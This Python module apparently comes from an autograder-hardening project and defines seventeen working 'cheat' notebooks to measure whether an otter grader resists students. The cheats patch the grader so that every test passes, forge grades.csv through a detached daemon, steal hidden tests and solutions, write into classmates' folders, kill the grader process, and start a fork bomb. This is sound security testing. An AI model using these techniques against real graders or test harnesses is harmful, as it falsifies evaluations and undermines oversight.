"""Cheating submissions: what a student who wants the marks without the work might hand in.

Each :class:`Cheat` is the *blank* learner notebook of ``ex05-rate-limits`` (answers left as ``...``,
0 of 5 points honestly) with a few code cells of the student's own, appended at the end or, for
the patches that must act before the notebook's ``grader.check`` cells run, inserted right after
its ``otter.Notebook(...)`` line (``at="top"``, where a student puts "the cell that makes it work").
:func:`write_cheat` writes one such notebook. ``CHEATS`` lists them all.

The cells are written as a student would: nothing is handed to them. They find the class folder,
the grader and the hidden tests themselves at run time — their ancestors' command lines and
working directories (``/proc/<pid>/cmdline``, ``/proc/<pid>/cwd``), their own working directory,
``/tmp`` — and they know their own name (a cheat's student is the folder named after it:
``DIR/<cheat.name>/ex05-rate-limits.ipynb``).

What the cells leave for whoever measures them:

- each writes what it managed to ``/tmp/cheat-evidence/<name>.json`` (``EVIDENCE``), a file in
  ``/tmp`` named for the cheat — a write outside the grader's scratch space in itself;
- every process a cheat starts runs ``python -c "..."`` with ``#cheat-<name>`` in its code, so it
  can be found, and killed, by its command line (``MARK``);
- a file a cheat writes outside its scratch space says ``written by cheat <name>``;
- the ``network`` cheat connects to ``127.0.0.1:8888`` (``LOOPBACK_PORT``, where a teacher's
  Jupyter server listens by default), beside two outside addresses.

``forge-csv-later`` rewrites the class's ``grades.csv`` after the grader exits; ``signal-parent``
kills the grader, so a whole class's grading fails with it: measure that one in a class of its own.
The processes the cheats start are bounded: the longest sleeps 600 s, the fork bomb makes
2**7 = 128 processes that sleep 120 s. Beyond the brief's list: ``patch-builtins-import`` (a
builtins patch that works where lying ``all``/``isinstance`` cannot reach a list comparison) and
``steal-solutions`` (run the reference notebook's answers, found in the grader's temporary folder).

Against the otter grader of commit 0a3df70 (``measure_before.py``): blank 0/5; 5/5 for
patch-answer-limits, patch-otter-runner, patch-builtins-import, patch-sys-modules,
redefine-grader-check, steal-solutions and (after the grader returns) forge-csv-later; 1/5 for
patch-builtins; 0/5 for the rest; signal-parent leaves no grades.csv for anyone.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass
from pathlib import Path

import nbformat

__all__ = ["CHEATS", "EVIDENCE", "LOOPBACK_PORT", "MARK", "Cheat", "cheat_named", "write_cheat"]

#: Where each cheat writes down what it managed (``<name>.json``).
EVIDENCE = Path("/tmp/cheat-evidence")
#: In the command line of every process a cheat starts: ``#cheat-<name>``.
MARK = "#cheat-"
#: The loopback port the ``network`` cheat tries (Jupyter's default).
LOOPBACK_PORT = 8888


@dataclass(frozen=True)
class Cheat:
    name: str  # short id; also the student's name (the folder the notebook is handed in under)
    what: str  # one line: what the student tries
    cells: tuple[str, ...]  # code cells added to the blank notebook
    at: str = "end"  # "end": appended; "top": right after the notebook's otter.Notebook(...) cell


def write_cheat(cheat: Cheat, blank: Path, out: Path) -> None:
    """Write ``blank`` with ``cheat``'s cells added (at its end, or after its init cell) to ``out``."""
    nb = nbformat.read(blank, as_version=4)
    cells = [nbformat.v4.new_code_cell(source) for source in cheat.cells]
    if cheat.at == "top":
        init = next(n for n, cell in enumerate(nb.cells)
                    if cell.cell_type == "code" and "otter.Notebook(" in cell.source)
        nb.cells[init + 1:init + 1] = cells
    elif cheat.at == "end":
        nb.cells.extend(cells)
    else:
        raise ValueError(f"{cheat.name}: at must be 'top' or 'end', not {cheat.at!r}")
    out.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, out)


def cheat_named(name: str) -> Cheat:
    return next(c for c in CHEATS if c.name == name)


def _code(name: str, *parts: str) -> str:
    """One cell: ``ME = "<name>"``, then each part (dedented), in order."""
    return "\n".join([f"ME = {name!r}", *(textwrap.dedent(p).strip("\n") for p in parts)]) + "\n"


# --- helpers a student pastes into their cells --------------------------------------------------

_NOTE = r'''
import json as _json
import os as _os


def note(**facts):
    """Write down what this cheat managed, in /tmp/cheat-evidence/<ME>.json."""
    _os.makedirs("/tmp/cheat-evidence", exist_ok=True)
    path = f"/tmp/cheat-evidence/{ME}.json"
    try:
        with open(path) as f:
            old = _json.load(f)
    except (OSError, ValueError):
        old = {}
    with open(path, "w") as f:
        _json.dump({**old, **facts}, f, indent=1, default=str)
'''

_FIND = r'''
import os
import subprocess
import sys
from pathlib import Path


def ancestors():
    """(pid, argv, cwd) of every process above this one, the nearest first."""
    found, pid = [], os.getppid()
    while pid > 1:
        try:
            raw = Path(f"/proc/{pid}/cmdline").read_bytes()
            argv = [a.decode(errors="replace") for a in raw.split(b"\0") if a]
            cwd = os.readlink(f"/proc/{pid}/cwd")
            ppid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        found.append((pid, argv, cwd))
        pid = ppid
    return found


def _processes():
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                argv = [a.decode(errors="replace")
                        for a in Path(f"/proc/{entry}/cmdline").read_bytes().split(b"\0") if a]
                yield int(entry), argv, os.readlink(f"/proc/{entry}/cwd")
            except OSError:
                continue


def class_folder(me=None):
    """The folder being graded and the pid of the process that named it: an argument (or the
    working directory) of an ancestor, else of any process, with a folder named after me in it."""
    me = me or ME
    for processes in (ancestors(), _processes()):
        for pid, argv, cwd in processes:
            for arg in [*argv[1:], "."]:
                for value in {arg, arg.partition("=")[2]} - {""}:
                    candidate = os.path.join(cwd, value)
                    if os.path.isdir(os.path.join(candidate, me)):
                        return Path(os.path.normpath(candidate)), pid
    return None, None


def temp_dirs():
    """Where the grader's temporary files are: its temporary directory, and /tmp."""
    import tempfile

    return [Path(d) for d in dict.fromkeys([tempfile.gettempdir(), "/tmp"])]


def start_detached(code, *args):
    """Run `python -c code args` as a daemon: it forks again, its first process exits at once, and
    the second runs on in a session of its own, a child of nobody here."""
    daemon = "import os\nif os.fork():\n    os._exit(0)\nos.setsid()\n" + code
    first = subprocess.Popen([sys.executable, "-c", daemon, *map(str, args)], start_new_session=True,
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    first.wait()
'''

# --- in-kernel patches: they run before the notebook's grader.check cells --------------------------

_FORGIVING_WITHIN = r'''
class ForgivingWithin:
    """Looks like lessons.answer_limits.within; swallows whatever fails inside it."""

    def __init__(self, *args, **kwargs):
        pass

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return True  # every exception raised in the block, assertions included, is dropped
'''

PATCH_ANSWER_LIMITS = Cheat(
    "patch-answer-limits",
    "replace lessons.answer_limits.within (and every module's name for it) by one that swallows failures",
    (_code("patch-answer-limits", _NOTE, _FORGIVING_WITHIN, r'''
        import sys

        import lessons.answer_limits

        real = lessons.answer_limits.within
        lessons.answer_limits.within = ForgivingWithin
        rebound = []
        for name, module in list(sys.modules.items()):
            if getattr(module, "within", None) is real:
                module.within = ForgivingWithin
                rebound.append(name)
        note(ran=True, patched=lessons.answer_limits.__file__, rebound=rebound)
        '''),),
    at="top",
)

PATCH_OTTER_RUNNER = Cheat(
    "patch-otter-runner",
    "patch otter's exception-test runner (test_case.call_func, ExceptionTestFile.run) so every case passes",
    (_code("patch-otter-runner", _NOTE, r'''
        from otter.test_files import abstract_test, exception_test

        real_call, real_run = exception_test.test_case.call_func, exception_test.ExceptionTestFile.run


        def call_func(self, global_environment):
            try:
                real_call(self, global_environment)
            except BaseException:
                pass


        def run(self, global_environment):
            real_run(self, global_environment)
            result, ok = abstract_test.TestCaseResult, "✅ Test case passed"
            self.test_case_results = [result(test_case=r.test_case, message=ok, passed=True)
                                      for r in self.test_case_results]


        exception_test.test_case.call_func = call_func
        exception_test.ExceptionTestFile.run = run
        note(ran=True, patched=exception_test.__file__)
        '''),),
    at="top",
)

PATCH_BUILTINS = Cheat(
    "patch-builtins",
    "make all/any/isinstance/sum/min/max/abs lie when a test calls them (and try rebinding AssertionError)",
    (_code("patch-builtins", _NOTE, r'''
        import builtins
        import sys


        def called_from_a_test():
            name = sys._getframe(2).f_code.co_filename.replace("\\", "/")
            return ("/tests/" in name or name.startswith("tests/")) and "site-packages" not in name


        class Yes(float):
            """A number equal to, smaller and greater than anything."""

            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return True
            def __le__(self, other): return True
            def __gt__(self, other): return True
            def __ge__(self, other): return True
            def __hash__(self): return 0


        def lying(real, answer):
            def wrapper(*args, **kwargs):
                return answer() if called_from_a_test() else real(*args, **kwargs)
            return wrapper


        for name in ("all", "any", "isinstance"):
            setattr(builtins, name, lying(getattr(builtins, name), lambda: True))
        for name in ("sum", "min", "max", "abs"):
            setattr(builtins, name, lying(getattr(builtins, name), lambda: Yes(0.0)))
        # `assert` raises the interpreter's own AssertionError, not the name in builtins; try anyway,
        # with a class that ExceptionTestFile.run's `except Exception` would not count as a failure.
        builtins.AssertionError = type("AssertionError", (BaseException,), {})
        note(ran=True, patched=["all", "any", "isinstance", "sum", "min", "max", "abs", "AssertionError"])
        '''),),
    at="top",
)

PATCH_BUILTINS_IMPORT = Cheat(
    "patch-builtins-import",
    "hook builtins.__import__ so a test's `from lessons.answer_limits import within` gets a forgiving one",
    (_code("patch-builtins-import", _NOTE, _FORGIVING_WITHIN, r'''
        import builtins
        import types

        shim = types.ModuleType("lessons.answer_limits")
        shim.within = ForgivingWithin
        real_import = builtins.__import__


        def __import__(name, globals=None, locals=None, fromlist=(), level=0):
            if name == "lessons.answer_limits" and fromlist:
                return shim
            return real_import(name, globals, locals, fromlist, level)


        builtins.__import__ = __import__
        note(ran=True)
        '''),),
    at="top",
)

PATCH_SYS_MODULES = Cheat(
    "patch-sys-modules",
    "put a fake lessons.answer_limits, whose within swallows failures, into sys.modules",
    (_code("patch-sys-modules", _NOTE, _FORGIVING_WITHIN, r'''
        import sys
        import types

        import lessons

        fake = types.ModuleType("lessons.answer_limits")
        fake.within = ForgivingWithin
        fake.AnswerTookTooLong = type("AnswerTookTooLong", (BaseException,), {})
        sys.modules["lessons.answer_limits"] = fake
        lessons.answer_limits = fake
        note(ran=True)
        '''),),
    at="top",
)

PATCH_NUMPY_TESTING = Cheat(
    "patch-numpy-testing",
    "turn numpy.testing's assert_* helpers into no-ops and np.allclose/isclose/array_equal into yes",
    (_code("patch-numpy-testing", _NOTE, r'''
        import numpy as np
        import numpy.testing

        patched = []
        for name in dir(numpy.testing):
            if name.startswith("assert_"):
                setattr(numpy.testing, name, lambda *args, **kwargs: None)
                patched.append(name)
        np.allclose = np.array_equal = np.array_equiv = lambda *args, **kwargs: True
        np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
        note(ran=True, patched=patched)
        '''),),
    at="top",
)

REDEFINE_GRADER_CHECK = Cheat(
    "redefine-grader-check",
    "redefine otter.Notebook.check / grader.check: run the tests, then report (and record) every case passed",
    (_code("redefine-grader-check", _NOTE, r'''
        import os
        import sys

        import otter
        from otter.execute import Checker


        def always_passes(self, question, global_env=None):
            env = global_env if global_env is not None else sys._getframe(1).f_globals
            result = Checker.check(os.path.join(self._tests_dir, f"{question}.py"), self._nbmeta_config,
                                   None, env)  # run and recorded as otter does, then
            for case in result.test_case_results:  # every case reported passed
                case.passed, case.message = True, "✅ Test case passed"
            return result


        otter.Notebook.check = always_passes
        if "grader" in globals():
            grader.check = always_passes.__get__(grader)
        note(ran=True)
        '''),),
    at="top",
)

# --- after the notebook's own cells -----------------------------------------------------------------

_FORGER = r'''
import csv, json, os, sys, time
folder, watch, me = sys.argv[1], int(sys.argv[2]), sys.argv[3]


def alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


deadline = time.time() + 900
while alive(watch) and time.time() < deadline:
    time.sleep(0.2)
time.sleep(0.5)
path = os.path.join(folder, "grades.csv")
with open(path, newline="") as f:
    reader = csv.DictReader(f)
    fields, rows = reader.fieldnames, list(reader)
mine = {r["exercise"] for r in rows if r["student"] == me and r["exercise"]}
possible = {(r["exercise"], r["question"]): r["possible"] for r in rows
            if r["exercise"] in mine and r["question"] and r["possible"]}
rows = [r for r in rows if r["student"] != me]
rows += [{"student": me, "exercise": e, "question": q, "points": p, "possible": p, "note": ""}
         for (e, q), p in possible.items()]
rows.sort(key=lambda r: (r["student"], r["exercise"], r["question"]))
with open(path + ".part", "w", newline="") as f:
    writer = csv.DictWriter(f, fields)
    writer.writeheader()
    writer.writerows(rows)
os.replace(path + ".part", path)
os.makedirs("/tmp/cheat-evidence", exist_ok=True)
with open(f"/tmp/cheat-evidence/{me}-forger.json", "w") as f:
    json.dump({"forged": path, "questions": sorted(map(list, possible)), "at": time.time()}, f)
#cheat-forge-csv-later
'''

FORGE_CSV_LATER = Cheat(
    "forge-csv-later",
    "leave a daemon that waits for the grader to exit, then rewrites grades.csv with full marks for me",
    (_code("forge-csv-later", _NOTE, _FIND, f'FORGER = r"""{_FORGER}"""', r'''
        folder, grader_pid = class_folder()
        if folder:
            start_detached(FORGER, folder, grader_pid, ME)
        note(ran=True, class_folder=folder, waits_for=grader_pid,
             grader=next((argv for pid, argv, _ in ancestors() if pid == grader_pid), None))
        '''),),
)

WRITE_OUTSIDE = Cheat(
    "write-outside",
    "write pwned.txt into the class folder, a classmate's folder, the project's lessons/ and /tmp",
    (_code("write-outside", _NOTE, _FIND, r'''
        import lessons

        text = f"written by cheat {ME}\n"
        folder, _ = class_folder()
        targets = {"/tmp": Path(f"/tmp/pwned-{ME}.txt"),
                   "project": Path(lessons.__file__).parent / f"pwned-{ME}.txt"}
        if folder:
            targets["class folder"] = folder / "pwned.txt"
            classmates = sorted(p for p in folder.iterdir() if p.is_dir() and p.name != ME)
            if classmates:
                targets["classmate"] = classmates[0] / "pwned.txt"
        written = {}
        for where, path in targets.items():
            try:
                path.write_text(text)
                written[where] = str(path)
            except OSError as error:
                written[where] = f"refused: {error}"
        note(ran=True, class_folder=folder, written=written)
        '''),),
)

READ_HIDDEN_TESTS = Cheat(
    "read-hidden-tests",
    "find the hidden tests (also the autograder zip, the reference notebook) on disk; copy them to the class "
    "folder",
    (_code("read-hidden-tests", _NOTE, _FIND, r'''
        import hashlib

        exercise = "ex05-rate-limits"
        # the tests of the grading under way: in the working directory, or in otter's source folder
        here = [p for place in (Path.cwd() / "tests", Path.cwd().parent / "source" / "tests")
                for p in sorted(place.glob("*.py")) if p.name != "__init__.py"]
        questions = {p.name for p in here}
        # what the grader (this grading's, or an earlier one's) left in the temporary directories:
        # the autograder zip, the reference notebook, other gradings' copies of the same tests
        patterns = ("*/autograder/*/tests/*.py", f"*/{exercise}/autograder/*")
        left = [p for tmp in temp_dirs() for pattern in patterns for p in sorted(tmp.glob(pattern))
                if exercise in p.name or p.name in questions]
        folder, _ = class_folder()
        targets = [Path("/tmp/cheat-evidence") / ME, *([folder / ME / "stolen"] if folder else [])]
        stolen, seen, hidden = [], set(), False
        for path in [*here, *left]:
            try:
                data = path.read_bytes()
            except OSError:
                continue
            digest = hashlib.sha1(data).hexdigest()[:8]
            if digest in seen:
                continue
            seen.add(digest)
            for target in targets:
                target.mkdir(parents=True, exist_ok=True)
                (target / f"{digest}-{path.name}").write_bytes(data)
            stolen.append(str(path))
            hidden = hidden or (path.suffix == ".py" and b"hidden=True" in data)
        note(ran=True, class_folder=folder, stolen=stolen, hidden_tests_read=hidden,
             copied_to=[str(t) for t in targets])
        '''),),
)

STEAL_SOLUTIONS = Cheat(
    "steal-solutions",
    "find the reference notebook or the master (solutions) on disk, run its answers, check again",
    (_code("steal-solutions", _NOTE, _FIND, r'''
        import json

        exercise = "ex05-rate-limits"
        roots = dict.fromkeys(Path(cwd) for _, _, cwd in ancestors())
        candidates = [*(str(p) for tmp in temp_dirs() for p in tmp.glob(f"*/*/autograder/{exercise}.ipynb")),
                      *(str(root / "exercises" / f"{exercise}.ipynb") for root in roots)]
        used = None
        for candidate in candidates:
            try:
                cells = json.loads(Path(candidate).read_text())["cells"]
            except (OSError, ValueError, KeyError):
                continue
            answers = ["".join(c["source"]) for c in cells if c["cell_type"] == "code"]
            answers = [a for a in answers
                       if ("class TokenBucket" in a or "def backoff" in a) and "..." not in a]
            if answers:
                for answer in answers:
                    exec(answer, globals())
                used = candidate
                break
        if used:  # the notebook's checks ran on the blanks; run them again, the later result counts
            grader.check("bucket")
            grader.check("backoff")
        note(ran=True, solutions_from=used, candidates=candidates)
        '''),),
)

OUTLIVE = Cheat(
    "outlive",
    "start a daemon (double fork, setsid) that sleeps 600 s, to outlive the notebook and its grader",
    (_code("outlive", _NOTE, _FIND, r'''
        start_detached("import time\ntime.sleep(600)\n#cheat-outlive\n")
        note(ran=True)
        '''),),
)

EXIT = Cheat(
    "exit",
    "end the kernel with os._exit(0) after the notebook's cells (before the grader's own last cell)",
    (_code("exit", _NOTE, r'''
        note(ran=True)
        _os._exit(0)
        '''),),
)

SYS_EXIT = Cheat(
    "sys-exit",
    "raise SystemExit with sys.exit(0) after the notebook's cells",
    (_code("sys-exit", _NOTE, r'''
        import sys

        note(ran=True)
        sys.exit(0)
        '''),),
)

SIGNAL_PARENT = Cheat(
    "signal-parent",
    "SIGTERM, then SIGKILL, the kernel's parents up to the grader (the ancestors naming otter/class_grades)",
    (_code("signal-parent", _NOTE, _FIND, r'''
        import signal
        import time

        targets = []
        for pid, argv, _ in ancestors():  # stop at the first that is not part of the grader
            if not any(word in " ".join(argv) for word in ("otter", "class_grades", "grade_class")):
                break
            targets.append((pid, argv[:3]))
        note(ran=True, targets=targets)
        sent = {}
        for pid, _ in reversed(targets):
            try:
                os.kill(pid, signal.SIGTERM)
                sent[pid] = "SIGTERM"
            except OSError as error:
                sent[pid] = f"refused: {error}"
        time.sleep(0.5)
        for pid, _ in reversed(targets):
            try:
                os.kill(pid, signal.SIGKILL)
                sent[pid] += " SIGKILL"
            except OSError as error:
                sent[pid] += f" (SIGKILL: {error.strerror})"
        note(sent=sent)
        '''),),
)

FORK_BOMB = Cheat(
    "fork-bomb",
    "a bounded fork bomb: a child of the kernel doubles 7 times (128 processes, each sleeping 120 s); the "
    "notebook waits for it to spread",
    (_code("fork-bomb", _NOTE, r'''
        import subprocess
        import sys
        import time

        BOMB = """
        import os, time
        for generation in range(7):  # 2**7 = 128 processes, no more
            try:
                os.fork()
            except OSError:
                break
        with open("/tmp/cheat-evidence/fork-bomb.pids", "a") as pids:
            pids.write(f"{os.getpid()}\\n")
        time.sleep(120)
        os._exit(0)
        #cheat-fork-bomb
        """
        bomb = subprocess.Popen([sys.executable, "-c", BOMB], stdin=subprocess.DEVNULL,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.time() + 10  # the notebook waits while the bomb spreads
        spread = 0
        while spread < 128 and time.time() < deadline:
            time.sleep(0.2)
            try:
                with open("/tmp/cheat-evidence/fork-bomb.pids") as pids:
                    spread = len(pids.read().split())
            except OSError:
                pass
        note(ran=True, first=bomb.pid, spread=spread)
        '''),),
)

NETWORK = Cheat(
    "network",
    "open TCP connections to 1.1.1.1:53, pypi.org:443 (DNS first) and 127.0.0.1:8888 (a local service)",
    (_code("network", _NOTE, r'''
        import socket

        results = {}
        try:
            results["dns pypi.org"] = sorted({a[4][0] for a in socket.getaddrinfo("pypi.org", 443)})
        except OSError as error:
            results["dns pypi.org"] = f"failed: {error}"
        for host, port in (("1.1.1.1", 53), ("pypi.org", 443), ("127.0.0.1", 8888)):
            try:
                with socket.create_connection((host, port), timeout=5) as s:
                    if port == 8888:
                        s.sendall(f"hello from cheat {ME}\n".encode())
                    results[f"{host}:{port}"] = "connected"
            except OSError as error:
                results[f"{host}:{port}"] = f"failed: {error}"
        note(ran=True, connections=results)
        '''),),
)

CHEATS: list[Cheat] = [
    PATCH_ANSWER_LIMITS, PATCH_OTTER_RUNNER, PATCH_BUILTINS, PATCH_BUILTINS_IMPORT, PATCH_SYS_MODULES,
    PATCH_NUMPY_TESTING, REDEFINE_GRADER_CHECK, FORGE_CSV_LATER, WRITE_OUTSIDE, READ_HIDDEN_TESTS,
    STEAL_SOLUTIONS, OUTLIVE, EXIT, SYS_EXIT, SIGNAL_PARENT, FORK_BOMB, NETWORK,
]
